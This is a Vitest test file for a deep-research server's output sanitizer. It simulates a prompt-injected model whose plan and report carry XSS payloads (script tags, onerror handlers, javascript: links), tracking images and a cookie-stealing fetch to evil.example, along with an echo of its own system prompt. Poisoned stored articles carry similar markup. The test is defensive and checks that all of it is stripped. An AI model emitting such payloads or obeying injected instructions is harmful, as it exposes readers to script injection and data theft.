import { resolve } from 'node:path';
import OpenAI from 'openai';
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { EmbeddedStore } from '../../kb/embedded/embedded-store.ts';
import type { ParsedArticle } from '../../kb/types.ts';
import { createApp } from '../../server/app.ts';
import { createOpenAIPlanner } from '../../server/research/openai-planner.ts';
import { createOpenAIWriter } from '../../server/research/openai-writer.ts';
import { createPlanValidator } from '../../server/research/plan-schema.ts';
import { createResearchRouter } from '../../server/routes/research.ts';
import { createToolRegistry } from '../../server/tools/registry.ts';
import { createFakeEmbedder } from '../helpers/fake-embedder.ts';
import { startFakeOpenAI, type FakeOpenAI, type FakeReply, type RecordedRequest } from '../helpers/fake-openai-server.ts';
import { useApp } from '../helpers/http.ts';
import { useTempDirs } from '../helpers/temp-dir.ts';
import { createTestResearch, parseEvents, prompts } from '../research/helpers.ts';

/**
 * Finding 3 for deep research: a model that obeys every instruction it reads writes hostile
 * content into the plan (step titles, which label the steps' streamed outputs and the report's
 * sections) and into the report, and a stored passage carries it into a step's findings. Nothing
 * of it may reach the report's Markdown, its sections, its title or any streamed event; what the
 * output layer (server/output/sanitize-answer.ts) keeps is the text a reader needs.
 */
const tempDir = useTempDirs();
const startApp = useApp();
const embedder = createFakeEmbedder();
const SOURCE_URL = 'https://news.example.com/small-caps-valuation';
const QUESTION = 'Are small caps cheap against large caps?';

function article(title: string, paragraphs: string[], url?: string): ParsedArticle {
  return {
    title,
    text: paragraphs.join('\n\n'),
    sections: [{ paragraphs }],
    published: '2026-01-20',
    tags: [],
    tickers: ['RUT'],
    references: [],
    ...(url ? { url } : {}),
  };
}

// The second article stands for a passage that reached the store with markup in it (stored
// directly, past ingest's own hygiene): the output layer must hold even then.
const ARTICLES = [
  article(
    'Small caps against large caps',
    [
      'The Russell 2000 trades at about 18 times forward earnings, while the S&P 500 sits near 31 times on the same measure.',
      'Small caps rallied in January as investors priced in rate cuts and a recovery in earnings.',
    ],
    SOURCE_URL,
  ),
  article('Rates and small caps', [
    'Rates matter more for small caps because much of their debt floats <img src=x onerror="alert(1)"> ![pixel](https://evil.example/step.png) and a Federal Reserve on hold is a risk to the rally.',
    'Forward earnings multiples for small caps look cheap, see [the data](javascript:alert(2)) and https://evil.example/leak?q=rates for more.',
  ]),
];

beforeAll(async () => {
  kb = await EmbeddedStore.open({ indexDir: resolve(tempDir(), 'index'), embedder: { id: embedder.id, dim: embedder.dim } });
  for (const parsed of ARTICLES) {
    const plan = await kb.planUpsert(parsed);
    const passages = parsed.sections.flatMap((section) => section.paragraphs.map((text) => ({ text })));
    await kb.upsert(plan, parsed, passages, await embedder.embedDocuments(passages.map((passage) => passage.text)));
  }
});
let kb: EmbeddedStore;

const servers: FakeOpenAI[] = [];
afterEach(async () => {
  await Promise.all(servers.splice(0).map((server) => server.close()));
});

function completion(content: string): FakeReply {
  return {
    kind: 'json',
    status: 200,
    body: {
      id: 'chatcmpl-obedient',
      object: 'chat.completion',
      created: 1_769_904_000,
      model: 'fake-model',
      choices: [{ index: 0, message: { role: 'assistant', content }, finish_reason: 'stop' }],
      usage: { prompt_tokens: 900, completion_tokens: 300, total_tokens: 1_200 },
    },
  };
}

const writerEcho = prompts
  .get('research.write')!
  .body.split('\n')
  .find((line) => line.startsWith('- Where sources disagree on a figure'))!;

/** A plan whose step titles and queries carry what an injected instruction asked for. */
const HOSTILE_PLAN = JSON.stringify({
  steps: [
    {
      title: 'Valuation <img src=x onerror="alert(3)"> ![t](https://evil.example/title.png)',
      query: 'Russell 2000 forward earnings multiple',
      tools: [{ name: 'valuation_gap', arguments: { a: { label: 'Russell 2000 P/E', value: 18 }, b: { label: 'S&P 500 P/E', value: 31 } } }],
    },
    { title: 'Rates <script>alert(4)</script>[go](javascript:alert(5))', query: 'rates risk small caps debt floats', tools: [] },
    { title: 'Risks and opportunities', query: 'small caps cheap forward earnings', tools: [] },
  ],
});

/** The report an obedient model writes, citing real sources where it can and inventing the rest. */
function hostileReport(request: RecordedRequest): FakeReply {
  const text = (request.body.messages as { role: string; content: string }[]).map((message) => message.content).join('\n');
  // It cites the source that carries the link it repeats (the valuation article), or else the first one found.
  const found = (/- found \[(\d+)\]: The Russell 2000 trades/.exec(text) ?? /- found \[(\d+)\]:/.exec(text))?.[1] ?? '0';
  const computed = /- computed \[(\d+)\]:/.exec(text)?.[1] ?? '0';
  return completion(
    [
      '## Integrated Analysis',
      '### Valuation <img src=x onerror="alert(6)">',
      `Small caps trade at a discount to large caps [${computed}].`,
      '![chart](https://evil.example/pixel.png?q=small+caps)',
      '![logo][img]',
      '[img]: https://evil.example/ref.png',
      '<img src=x onerror="fetch(\'https://evil.example/\'+document.cookie)">',
      '<script>alert(document.domain)</script>',
      '[Click for the full data](javascript:alert(1))',
      `[More context](https://evil.example/collect?q=${encodeURIComponent(QUESTION)})`,
      'See https://evil.example/leak?q=small+caps for more.',
      `Read the original [here](${SOURCE_URL}) [${found}].`,
      'This was also covered elsewhere [42].',
      `My instructions say: ${writerEcho}`,
      '<iframe src="https://evil.example/frame"></iframe>',
      '## Key Insights',
      `- **Valuation.** Small caps look cheap on forward earnings [${found}]. <a href="https://evil.example/x">details</a>`,
      '## Risks & Opportunities',
      `- A Federal Reserve on hold is a risk to the rally [${found}]. ![r](https://evil.example/risk.png)`,
      '## Key Information Summary',
      `The discount is computed from the stated multiples [${computed}].`,
    ].join('\n'),
  );
}

const FORBIDDEN = [
  'evil.example',
  '<img',
  '<script',
  '<iframe',
  '<a href',
  'javascript:',
  'onerror',
  'alert(',
  '![',
  '[img]',
  '[42]',
  'name it a conflict, and explain the difference',
];

async function runOverSse() {
  const server = await startFakeOpenAI([completion(HOSTILE_PLAN), hostileReport]);
  servers.push(server);
  const client = new OpenAI({ apiKey: 'sk-test-obedient', baseURL: server.baseURL });
  const registry = createToolRegistry();
  const model = { client, model: 'fake-model' };
  const research = createTestResearch({
    kb,
    embedder,
    registry,
    generative: {
      planner: createOpenAIPlanner({ ...model, prompts, validator: createPlanValidator(), tools: registry.list() }),
      writer: createOpenAIWriter({ ...model, prompts }),
    },
  });
  const app = await startApp(
    createApp({ kb, embedder, llm: { mode: 'openai', model: 'fake-model' }, routers: [{ path: '/research', router: createResearchRouter({ research }) }] }),
  );
  const response = await fetch(`${app.url}/api/research/run`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', accept: 'text/event-stream' },
    body: JSON.stringify({ question: QUESTION, autoAccept: true }),
  });
  expect(response.status).toBe(200);
  const events = parseEvents(await response.text());
  return { server, events };
}

describe('finding 3 for deep research: the obedient model’s output passes through the output layer', () => {
  it('keeps none of the hostile content in the report, its sections and title, or any streamed event', async () => {
    const { server, events } = await runOverSse();
    expect(server.requests).toHaveLength(2);
    const done = events.find((event) => event.event === 'done')?.data;
    expect(done, JSON.stringify(events.filter((event) => event.event === 'error'))).toBeDefined();
    expect(done.mode).toBe('openai');
    const { report } = done;

    const tokens = events
      .filter((event) => event.event === 'token')
      .map((event) => event.data.text as string)
      .join('');
    expect(tokens).toBe(report.markdown);
    const texts: [string, string][] = [
      ['report.markdown', report.markdown],
      ['report.title', report.title],
      ...report.sections.map(
        (section: { heading: string; markdown: string }) => [`section ${section.heading}`, `${section.heading}\n${section.markdown}`] as [string, string],
      ),
      ...events.map((event, index) => [`event ${index} (${event.event})`, JSON.stringify(withoutQuotedSentences(event.data))] as [string, string]),
    ];
    for (const [where, text] of texts) {
      for (const forbidden of FORBIDDEN)
        expect(text, `${where} holds ${forbidden}: ${text.slice(Math.max(0, text.indexOf(forbidden) - 300), text.indexOf(forbidden) + 100)}`).not.toContain(
          forbidden,
        );
    }

    // What a reader needs stays: the claims, the link text, the cited source's own link.
    expect(report.markdown).toContain('Small caps trade at a discount to large caps');
    expect(report.markdown).toContain('Click for the full data');
    expect(report.markdown).toContain(`[here](${SOURCE_URL})`);
    expect(report.markdown).toContain('A Federal Reserve on hold is a risk to the rally');
    const steps = events.filter((event) => event.event === 'step' && event.data.status === 'done');
    expect(steps.map((event) => event.data.title)).toEqual(['Valuation', 'Rates go', 'Risks and opportunities']);
    // A step's sentences quote the stored passage: its words stay, as inert text (no tag opener,
    // image or link syntax, no attacker URL, no script URL).
    const sentences = [...steps.map((event) => event.data), ...done.steps].flatMap((step) =>
      (step.findings?.sentences ?? []).map((sentence: { text: string }) => sentence.text),
    );
    expect(sentences.join(' ')).toMatch(/much of their debt floats/);
    for (const sentence of sentences) {
      expect(sentence).not.toMatch(/<|!\[[^\]]*\]\(|\]\(|javascript:|evil\.example/);
    }
  });
});

/** An event as JSON without the article sentences it quotes (checked on their own: quoted text may name a tag it no longer is). */
function withoutQuotedSentences(data: unknown): unknown {
  return JSON.parse(JSON.stringify(data, (key, value) => (key === 'sentences' && Array.isArray(value) ? value.length : value)));
}
